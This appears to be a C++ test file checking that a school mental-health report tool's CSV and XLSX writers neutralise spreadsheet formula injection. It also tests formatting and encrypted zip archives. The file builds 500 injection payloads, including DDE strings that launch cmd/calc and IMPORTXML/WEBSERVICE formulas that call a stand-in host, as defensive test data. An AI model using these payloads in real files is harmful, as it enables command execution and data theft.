// SPDX-FileCopyrightText: 2026 Anxin contributors
// SPDX-License-Identifier: GPL-3.0-or-later

#include "core/base/fault.h"
#include "core/writers/csvwriter.h"
#include "core/writers/plainworkbook.h"
#include "core/writers/reporttext.h"
#include "core/writers/xlsxwriter.h"
#include "core/writers/zipwriter.h"
#include "tests/core/writers/samplereport.h"
#include "tests/support/catch.h"
#include "tests/support/unzip.h"

#include <QFile>
#include <QProcess>
#include <QRegularExpression>
#include <QStandardPaths>
#include <QTemporaryDir>

using namespace anxin;

namespace {

// The openings that spreadsheet programs have been seen to take for a formula, each before each of these bodies.
QStringList formulaPayloads()
{
    const QStringList starts{
        QStringLiteral("="),       QStringLiteral("+"),           QStringLiteral("-"),       QStringLiteral("@"),
        QStringLiteral("|"),       QStringLiteral("%"),           QStringLiteral("＝"),      QStringLiteral("＋"),
        QStringLiteral("－"),      QStringLiteral("＠"),          QStringLiteral(" ="),      QStringLiteral("\t="),
        QStringLiteral("\r="),     QStringLiteral("\n="),         QStringLiteral("\t"),      QStringLiteral("\uFEFF="),
        QStringLiteral("\u3000="), QStringLiteral("\u200B="),     QStringLiteral("\u00A0+"), QStringLiteral("\x01="),
        QStringLiteral("  \t@"),   QStringLiteral("\uFEFF \t＝"), QStringLiteral("=\""),     QStringLiteral("\r\n-"),
        QStringLiteral("\u2060=")};
    const QStringList bodies{QStringLiteral("1+1"),
                             QStringLiteral("cmd|' /C calc'!A0"),
                             QStringLiteral("HYPERLINK(\"http://x.invalid\",\"心育\")"),
                             QStringLiteral("SUM(A1:A9)"),
                             QStringLiteral("IMPORTXML(CONCAT(\"http://x.invalid/\",A1),\"//a\")"),
                             QStringLiteral("DDE(\"cmd\";\"/C calc\";\"x\")"),
                             QStringLiteral("A1"),
                             QStringLiteral("2147483648"),
                             QStringLiteral("\"\",\"=1\""),
                             QStringLiteral("WEBSERVICE(\"http://x.invalid\")"),
                             QStringLiteral("0"),
                             QStringLiteral("-1+1"),
                             QStringLiteral("@SUM(1)"),
                             QStringLiteral("{=1}"),
                             QStringLiteral("''=1"),
                             QStringLiteral("MSEXCEL|'\\..\\..\\cmd.exe'!''"),
                             QStringLiteral("张三"),
                             QStringLiteral("1\n=2"),
                             QStringLiteral("1\",=2,\""),
                             QStringLiteral("&A1")};
    QStringList payloads;
    for (const QString& start : starts)
        for (const QString& body : bodies)
            payloads += start + body;
    return payloads;
}

// Every place of a model that holds text holds the payload.
ReportModel poisoned(const QString& payload)
{
    ReportModel model = sampleReport();
    for (QString* text :
         {&model.title, &model.school, &model.period, &model.witness, &model.signOff.filler, &model.tables[0].title,
          &model.tables[0].columns[0].title, &model.definitions[0].term, &model.definitions[0].meaning})
        *text = payload;
    model.tables[0].rows[0].cells[0] = payload;
    return model;
}

// The fields of a file as a strict reader (RFC 4180) sees them.
QStringList fieldsOf(const QByteArray& csv)
{
    QStringList fields;
    QString field;
    bool quoted = false;
    const QString text = QString::fromUtf8(csv);
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text[i];
        if (quoted && c == u'"' && text.mid(i + 1, 1) == QStringLiteral("\""))
            field += text[i++];
        else if (c == u'"')
            quoted = !quoted;
        else if (!quoted && (c == u',' || c == u'\n')) {
            fields += field;
            field.clear();
        } else if (quoted || c != u'\r')
            field += c;
    }
    return fields;
}

QString sheet(const QByteArray& xlsx, int number = 1)
{
    const auto files = unzipped(xlsx);
    REQUIRE(files);
    return QString::fromUtf8(files->at(QStringLiteral("xl/worksheets/sheet%1.xml").arg(number)));
}

} // namespace

TEST_CASE("each kind of cell is shown in its own way", "[writers]")
{
    CHECK(shownCell(Count{12}) == QStringLiteral("12"));
    CHECK(shownCell(Ratio{1, 3}) == QStringLiteral("33.3%"));
    CHECK(shownCell(Ratio{1, 2000}) == QStringLiteral("0.1%")); // 0.05 % is rounded up
    CHECK(shownCell(Ratio{5, 5}) == QStringLiteral("100.0%"));
    CHECK(shownCell(Suppressed{}) == QStringLiteral("*"));
    CHECK(shownCell(ratioOf(0, 0)) == QStringLiteral("—"));
}

TEST_CASE("the same report gives the same bytes", "[writers]")
{
    CHECK(XlsxWriter{}.write(sampleReport()) == XlsxWriter{}.write(sampleReport()));
    CHECK(CsvWriter{}.write(sampleReport()) == CsvWriter{}.write(sampleReport()));
    ReportModel other = sampleReport();
    other.tables[0].rows[0].cells[1] = Count{121};
    CHECK(XlsxWriter{}.write(other) != XlsxWriter{}.write(sampleReport()));
}

TEST_CASE("a csv file begins with a byte order mark and quotes every field", "[writers][csv]")
{
    const QByteArray csv = CsvWriter{}.write(sampleReport());
    CHECK(csv.startsWith("\xEF\xBB\xBF\"心理健康工作学期报表\"\r\n"));
    CHECK(csv.contains("\"七年级\",\"120\",\"12\",\"10.0%\"\r\n"));
    CHECK(csv.contains("\"八年级\",\"99\",\"*\",\"*\"\r\n"));
    CHECK(csv.contains("\"合计\",\"219\",\"14\",\"6.4%\"\r\n"));
    CHECK(csvField(QStringLiteral("他说\"好\"")) == QStringLiteral("\"他说\"\"好\"\"\""));
    CHECK(csvField(QStringLiteral("a+b")) == QStringLiteral("\"a+b\""));
}

// R21
TEST_CASE("five hundred formula payloads give no formula in a csv file", "[writers][csv][injection][R21]")
{
    const QStringList payloads = formulaPayloads();
    REQUIRE(payloads.size() == 500);
    static const QRegularExpression formula{
        QStringLiteral("^([\\t\\r\\n]|[\\x{FEFF}\\x{200B}\\x{2060}\\x{00A0}\\x{3000}\\s\\x00-\\x1f]*[=+\\-@|%＝＋－＠])")};
    for (const QString& payload : payloads) {
        REQUIRE(formula.match(payload).hasMatch());
        const QByteArray csv = CsvWriter{}.write(poisoned(payload));
        int marked = 0;
        for (const QString& field : fieldsOf(csv.mid(3))) {
            if (formula.match(field).hasMatch())
                FAIL(payload.toStdString());
            marked += field == u'\'' + payload;
        }
        CHECK(marked >= 6); // and it is told, whole, behind the apostrophe
    }
}

TEST_CASE("five hundred formula payloads give no formula in a workbook", "[writers][xlsx][injection][R21]")
{
    for (const QString& payload : formulaPayloads()) {
        const auto files = unzipped(XlsxWriter{}.write(poisoned(payload)));
        REQUIRE(files);
        for (const auto& [name, bytes] : *files) {
            if (bytes.contains("<f>") || bytes.contains("<f ") || bytes.contains("<hyperlink") ||
                name.contains(u"externalLink"))
                FAIL(payload.toStdString());
        }
    }
}

TEST_CASE("five hundred formula payloads give no formula in a list of rows that were not taken",
          "[writers][xlsx][injection][R21]")
{
    std::vector<QStringList> rows{{QStringLiteral("姓名"), QStringLiteral("=1+1")}};
    for (const QString& payload : formulaPayloads())
        rows.push_back({payload, payload});
    const auto files = unzipped(plainWorkbook(QStringLiteral("未接收"), rows));
    REQUIRE(files);
    const QByteArray sheet = files->at(QStringLiteral("xl/worksheets/sheet1.xml"));
    CHECK(sheet.count("<c r=") == 2 * static_cast<qsizetype>(rows.size()));
    CHECK(sheet.count(" t=\"s\"") == sheet.count("<c r=")); // every cell is a text
    for (const auto& [name, bytes] : *files)
        CHECK_FALSE((bytes.contains("<f>") || bytes.contains("<f ") || bytes.contains("<hyperlink")));
}

TEST_CASE("a workbook is set up for an A4 page with its head repeated", "[writers][xlsx]")
{
    const QByteArray xlsx = XlsxWriter{}.write(sampleReport());
    const QString xml = sheet(xlsx);
    CHECK(xml.contains(QStringLiteral("<mergeCell ref=\"A1:D1\"/>")));
    CHECK(xml.contains(QStringLiteral("paperSize=\"9\"")));
    CHECK(xml.contains(QStringLiteral("fitToHeight=\"0\"")));
    CHECK(xml.contains(QStringLiteral("Audit witness 000418 · 7KQ2-M9")));
    CHECK(xml.contains(QRegularExpression(QStringLiteral("<c r=\"B5\" s=\"\\d+\"><v>120</v></c>"))));
    CHECK(xml.contains(QRegularExpression(QStringLiteral("<c r=\"D5\" s=\"\\d+\"><v>0.1</v></c>"))));
    CHECK(xml.contains(QRegularExpression(QStringLiteral("<c r=\"A5\" s=\"\\d+\" t=\"s\">"))));
    const auto files = unzipped(xlsx);
    CHECK(files->at(QStringLiteral("xl/workbook.xml")).contains("_xlnm.Print_Titles"));
    const QByteArray core = files->at(QStringLiteral("docProps/core.xml"));
    CHECK(core.contains("2026-01-20T00:00:00Z"));
    CHECK_FALSE(core.contains("林安心"));
}

TEST_CASE("tables of the same title get sheets of their own", "[writers][xlsx]")
{
    ReportModel model = sampleReport();
    model.tables.push_back(model.tables[0]);
    model.tables[0].title = model.tables[1].title = QStringLiteral("1/2 [按年级]: 心理健康工作学期报表的每一项指标逐一统计");
    const auto files = unzipped(XlsxWriter{}.write(model));
    REQUIRE(files);
    CHECK(files->count(QStringLiteral("xl/worksheets/sheet3.xml")) == 1);
}

TEST_CASE("a report without a table is still a sheet to sign", "[writers][xlsx]")
{
    ReportModel model = sampleReport();
    model.tables.clear();
    model.definitions.clear();
    model.signOff.zeroReport = true;
    const auto files = unzipped(XlsxWriter{}.write(model));
    REQUIRE(files);
    CHECK(files->at(QStringLiteral("xl/sharedStrings.xml")).contains("Zero report"));
}

TEST_CASE("openpyxl reads the workbook back", "[writers][xlsx]")
{
    QTemporaryDir folder;
    const QString path = folder.filePath(QStringLiteral("report.xlsx"));
    QFile file{path};
    REQUIRE(file.open(QIODevice::WriteOnly));
    file.write(XlsxWriter{}.write(sampleReport()));
    file.close();
    QProcess python;
    python.start(QStringLiteral("/usr/bin/python3"),
                 {QStringLiteral("-c"),
                  QStringLiteral("import sys\n"
                                 "try:\n    import openpyxl\n"
                                 "except ImportError:\n    sys.exit(77)\n"
                                 "sheet = openpyxl.load_workbook(sys.argv[1]).worksheets[0]\n"
                                 "cells = [[c.value for c in row] for row in sheet.iter_rows(min_row=4, max_row=8)]\n"
                                 "assert sheet['A1'].value == '心理健康工作学期报表', sheet['A1'].value\n"
                                 "assert cells[0] == ['年级', '实测人数', '预警人数', '预警比例'], cells\n"
                                 "assert cells[1] == ['七年级', 120, 12, 0.1], cells\n"
                                 "assert cells[2] == ['八年级', 99, '*', '*'], cells\n"
                                 "assert cells[4][0:3] == ['合计', 219, 14], cells\n"
                                 "assert sheet.print_title_rows == '$1:$4', sheet.print_title_rows\n"),
                  path});
    if (!python.waitForFinished() || python.exitCode() == 77) {
        WARN("python3-openpyxl is not here: not read back");
        return;
    }
    INFO(python.readAllStandardError().toStdString());
    CHECK(python.exitCode() == 0);
}

TEST_CASE("an archive opens with its password and with no other", "[writers][zip]")
{
    const QByteArray secret = QByteArrayLiteral("七个 words-and more");
    const QByteArray zip =
        encryptedZip({{QStringLiteral("01.xlsx"), "心育 canary"}, {QStringLiteral("manifest.json"), "{}"}}, secret);
    const auto files = unzipped(zip, secret);
    REQUIRE(files);
    CHECK(files->size() == 2);
    CHECK(files->at(QStringLiteral("01.xlsx")) == "心育 canary");
    CHECK_FALSE(unzipped(zip, "wrong"));
    CHECK_FALSE(unzipped(zip));
    CHECK_FALSE(zip.contains("canary"));
    CHECK_THROWS_AS(encryptedZip({{QStringLiteral("01.xlsx"), "x"}}, {}), Fault);
}

TEST_CASE("7-Zip agrees that an archive is AES-256 and opens it", "[writers][zip]")
{
    const QString sevenZip = QStandardPaths::findExecutable(QStringLiteral("7z"));
    if (sevenZip.isEmpty()) {
        WARN("7z is not here: not tried");
        return;
    }
    QTemporaryDir folder;
    const QString path = folder.filePath(QStringLiteral("p.zip"));
    QFile file{path};
    REQUIRE(file.open(QIODevice::WriteOnly));
    file.write(encryptedZip({{QStringLiteral("01.xlsx"), QByteArray(100000, 'x')}}, "K7M2-PQ9R"));
    file.close();
    const auto run = [&](const QStringList& arguments) {
        QProcess process;
        process.start(sevenZip, arguments);
        process.waitForFinished();
        return std::pair{process.exitCode(), process.readAllStandardOutput()};
    };
    CHECK(run({QStringLiteral("l"), QStringLiteral("-slt"), path}).second.contains("AES-256"));
    CHECK(run({QStringLiteral("t"), QStringLiteral("-pK7M2-PQ9R"), path}).first == 0);
    CHECK(run({QStringLiteral("t"), QStringLiteral("-pK7M2-PQ9S"), path}).first != 0);
}
